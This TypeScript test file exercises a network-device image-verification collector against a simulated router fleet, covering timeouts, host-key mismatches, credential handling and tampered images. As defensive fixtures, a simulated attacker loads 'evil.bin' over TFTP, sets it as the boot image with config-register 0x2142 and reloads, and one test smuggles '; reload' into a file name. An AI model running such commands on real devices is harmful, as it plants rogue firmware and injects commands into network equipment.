import { spawn, spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { DeviceState } from '../model/state.js';
import { startFleet, SIM_PASSWORD, type Fleet, type Misbehaviour } from '../sim/index.js';
import { hostKeyFromSeed } from '../sim/host-key.js';
import { syntheticFleet } from '../sim/synthetic.js';
import { collect } from './index.js';

const EXPECTED: Record<Misbehaviour, DeviceState['reason'] | 'tampered'> = {
  hang: 'timeout',
  'hang-after-banner': 'timeout',
  'drop-mid-output': 'unreachable',
  garbage: 'unparsable',
  'wrong-host-key': 'host-key-mismatch',
  'refuse-auth': 'auth-failed',
  'tampered-image': 'tampered',
  slow: 'timeout',
  'huge-output': 'unparsable',
  'hostile-output': 'unparsable',
};

const dotted = (v: string | undefined): string | undefined => v?.replace(/\b0+(?=\d)/g, '');

describe('collect against the simulator', () => {
  let dir: string;
  let fleet: Fleet;
  const { devices, catalog } = syntheticFleet(15);
  const env = { IMAGEGATE_SSH_PASSWORD: SIM_PASSWORD };
  const userKey = hostKeyFromSeed(createHash('sha256').update('collector key').digest(), 'collector');

  beforeAll(async () => {
    dir = mkdtempSync(join(tmpdir(), 'ig-collect-'));
    fleet = await startFleet(devices, catalog, { logDir: dir, slowMs: 6000, hugeOutputBytes: 5 * 1024 * 1024, authorizedKeys: [userKey.publicKey] });
  });
  afterAll(async () => {
    await fleet.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it.each([['auto'], ['shell']] as const)('collects every platform, and reports each misbehaving device with its reason while the rest complete (%s transport)', async (transport) => {
    const modes = Object.keys(EXPECTED) as Misbehaviour[];
    const bad = new Map<string, Misbehaviour>();
    modes.forEach((mode, i) => {
      const name = devices[5 + i]?.name ?? '';
      fleet.device(name).misbehave(mode);
      bad.set(name, mode);
    });
    const progress: number[] = [];
    const state = await collect(devices, catalog, {
      concurrency: 20,
      // generous: on a loaded 2-core CI machine a healthy device must never hit it; the hung ones do
      timeoutSeconds: 4,
      sshConfig: fleet.sshConfig(),
      env,
      transport,
      onProgress: (done) => progress.push(done),
    });
    expect(state.version).toBe(1);
    expect(state.devices.map((d) => d.device)).toEqual(devices.map((d) => d.name));
    expect(progress).toHaveLength(devices.length);
    for (const d of state.devices) {
      const mode = bad.get(d.device);
      const image = catalog.images.find((i) => i.platform === d.platform);
      if (mode === undefined || mode === 'tampered-image') {
        expect({ device: d.device, status: d.status, detail: d.detail }).toEqual({ device: d.device, status: 'ok', detail: undefined });
        // IOS-XE prints 17.12.04 and 17.12.4 in the same output; the parser keeps the second
        expect(dotted(d.facts.version?.version)).toBe(dotted(image?.version));
        expect(d.expectedFile).toBe(image?.file);
        expect(d.facts.files?.files.map((f) => f.name)).toContain(image?.file);
        if (d.platform === 'juniper_junos') {
          expect(d.unsupported).toEqual(['boot']);
          expect(d.facts.hash).toEqual({ file: image?.file, algorithm: 'sha256', digest: mode ? expect.not.stringMatching(image?.sha256 ?? '') : image?.sha256 });
        } else {
          expect(d.facts.boot?.boot.length).toBeGreaterThan(0);
          expect(d.facts.hash?.algorithm).toBe('sha512');
          if (mode) expect(d.facts.hash?.digest).not.toBe(image?.sha512);
          else expect(d.facts.hash?.digest).toBe(image?.sha512);
        }
      } else {
        expect({ device: d.device, mode, status: d.status, reason: d.reason }).toEqual({ device: d.device, mode, status: 'unverified', reason: EXPECTED[mode] });
        if (mode === 'wrong-host-key') expect(d.presentedHostKey).toMatch(/^SHA256:/);
      }
    }
    for (const name of bad.keys()) fleet.device(name).misbehave(null);
  });

  it('records a device whose port is closed as unreachable', async () => {
    const closed = await new Promise<number>((resolve) => {
      const s = createServer().listen(0, '127.0.0.1', () => {
        const a = s.address();
        s.close(() => resolve(typeof a === 'object' && a ? a.port : 1));
      });
    });
    const d = devices[0];
    if (!d) throw new Error('no device');
    const state = await collect([{ ...d, management: { ...d.management, host: '127.0.0.1', port: closed } }], catalog, { env, timeoutSeconds: 5 });
    expect(state.devices[0]).toMatchObject({ status: 'unverified', reason: 'unreachable' });
    expect(state.devices[0]?.detail).toContain('ECONNREFUSED');
  });

  it('records no credentials when the environment has none, and never prints the password', async () => {
    const state = await collect(devices.slice(0, 2), catalog, { sshConfig: fleet.sshConfig(), env: {}, timeoutSeconds: 2 });
    expect(state.devices.map((d) => d.reason)).toEqual(['no-credentials', 'no-credentials']);
    const wrong = await collect(devices.slice(0, 1), catalog, { sshConfig: fleet.sshConfig(), env: { IMAGEGATE_SSH_PASSWORD: 'hunter2-secret' }, timeoutSeconds: 2 });
    expect(wrong.devices[0]?.reason).toBe('auth-failed');
    expect(JSON.stringify(wrong)).not.toContain('hunter2-secret');
  });

  it('reads the state an operator changed: copy, boot system, config-register, reload', async () => {
    const ios = devices.find((d) => d.platform === 'cisco_xe')?.name ?? '';
    fleet.run(ios, 'mallory', 'copy tftp://10.9.9.9/evil.bin flash:');
    fleet.run(ios, 'mallory', 'configure terminal\nboot system flash:evil.bin\nconfig-register 0x2142\nend');
    const before = await collect(devices.filter((d) => d.name === ios), catalog, { sshConfig: fleet.sshConfig(), env, timeoutSeconds: 3 });
    expect(before.devices[0]?.facts.boot?.boot).toEqual(['flash:evil.bin']);
    expect(before.devices[0]?.facts.boot?.nextConfigRegister ?? before.devices[0]?.facts.boot?.configRegister).toBe('0x2142');
    expect(before.devices[0]?.facts.files?.files.map((f) => f.name)).toContain('evil.bin');
    fleet.run(ios, 'mallory', 'reload');
    const after = await collect(devices.filter((d) => d.name === ios), catalog, { sshConfig: fleet.sshConfig(), env, timeoutSeconds: 3 });
    expect(after.devices[0]?.facts.version?.image).toBe('flash:evil.bin');
    expect(after.devices[0]?.facts.version?.uptimeSeconds).toBeLessThan(120);
    expect(after.devices[0]?.facts.boot?.configRegister).toBe('0x2142');
    const syslog = readFileSync(fleet.logs.syslog, 'utf8');
    expect(syslog).toMatch(/ 10\.0\.0\.1 \d+: \w{3} [ \d]\d \d\d:\d\d:\d\d\.\d{3} UTC: %PARSER-5-CFGLOG_LOGGEDCMD: User:mallory  logged command:boot system flash:evil\.bin\n/);
    expect(syslog).toContain('%SYS-5-RELOAD: Reload requested by mallory on vty');
    expect(syslog).toContain('%SYS-5-RESTART: System restarted');
    expect(readFileSync(fleet.logs.tftp, 'utf8')).toMatch(/^\w{3} [ \d]\d \d\d:\d\d:\d\d tftp in\.tftpd\[\d+\]: RRQ from 10\.0\.0\.1 filename evil\.bin$/m);
    expect(readFileSync(fleet.logs.tacacs, 'utf8')).toMatch(/\t10\.0\.0\.1\tmallory\tvty\d+\t10\.1\.1\.10\tstop\ttask_id=\d+\ttimezone=UTC\tservice=shell\tpriv-lvl=15\tcmd=copy tftp:\/\/10\.9\.9\.9\/evil\.bin flash: <cr>\n/);
  });

  it('logs in with a key file and with an SSH agent, no password anywhere', async () => {
    const keyFile = join(dir, 'id_ed25519');
    writeFileSync(keyFile, userKey.privateKey, { mode: 0o600 });
    const byKey = await collect(devices.slice(0, 5), catalog, { sshConfig: fleet.sshConfig(), env: { IMAGEGATE_SSH_KEY: keyFile }, timeoutSeconds: 5 });
    expect(byKey.devices.map((d) => d.status)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok']);
    // IdentityFile from the SSH config works the same
    const viaConfig = await collect(devices.slice(0, 1), catalog, { sshConfig: `${fleet.sshConfig()}\nHost *\n  IdentityFile ${keyFile}\n`, env: {}, timeoutSeconds: 5 });
    expect(viaConfig.devices[0]?.status).toBe('ok');
    if (!existsSync('/usr/bin/ssh-agent')) throw new Error('ssh-agent is missing: apt-get install -y openssh-client');
    const sock = join(dir, 'agent.sock');
    const agent = spawn('/usr/bin/ssh-agent', ['-D', '-a', sock], { stdio: 'ignore' });
    try {
      for (let i = 0; i < 100 && !existsSync(sock); i++) await new Promise((r) => setTimeout(r, 20));
      const add = spawnSync('/usr/bin/ssh-add', [keyFile], { env: { SSH_AUTH_SOCK: sock } });
      expect(add.status).toBe(0);
      const byAgent = await collect(devices.slice(0, 5), catalog, { sshConfig: fleet.sshConfig(), env: { SSH_AUTH_SOCK: sock }, timeoutSeconds: 5 });
      expect(byAgent.devices.map((d) => d.status)).toEqual(['ok', 'ok', 'ok', 'ok', 'ok']);
    } finally {
      agent.kill();
    }
  });

  it('never sends a hash command built from an unsafe file name', async () => {
    const hostile = { ...catalog, images: catalog.images.map((i) => (i.platform === 'cisco_ios' ? { ...i, file: 'x.bin; reload' } : i)) };
    const ios = devices.filter((d) => d.platform === 'cisco_ios').slice(0, 1);
    const state = await collect(ios, hostile, { sshConfig: fleet.sshConfig(), env, timeoutSeconds: 5 });
    expect(state.devices[0]).toMatchObject({ status: 'unverified', reason: 'command-failed' });
    expect(state.devices[0]?.detail).toContain('refusing file name');
    fleet.flushLogs();
    expect(readFileSync(fleet.logs.tacacs, 'utf8')).not.toContain('x.bin');
    expect(fleet.device(ios[0]?.name ?? '').uptimeSeconds()).toBeGreaterThan(86400);
  });

  it('collects every platform over an interactive session too; IOS closes the connection after one exec', async () => {
    const five = devices.slice(0, 5);
    const shell = await collect(five, catalog, { sshConfig: fleet.sshConfig(), env, timeoutSeconds: 5, transport: 'shell' });
    expect(shell.devices.map((d) => [d.platform, d.status, d.detail])).toEqual(five.map((d) => [d.platform, 'ok', undefined]));
    const exec = await collect(five, catalog, { sshConfig: fleet.sshConfig(), env, timeoutSeconds: 5, transport: 'exec' });
    expect(exec.devices.map((d) => [d.platform, d.status === 'ok' ? 'ok' : d.reason])).toEqual([
      ['cisco_ios', 'unreachable'],
      ['cisco_xe', 'unreachable'],
      ['cisco_nxos', 'ok'],
      ['arista_eos', 'ok'],
      ['juniper_junos', 'ok'],
    ]);
  });
});
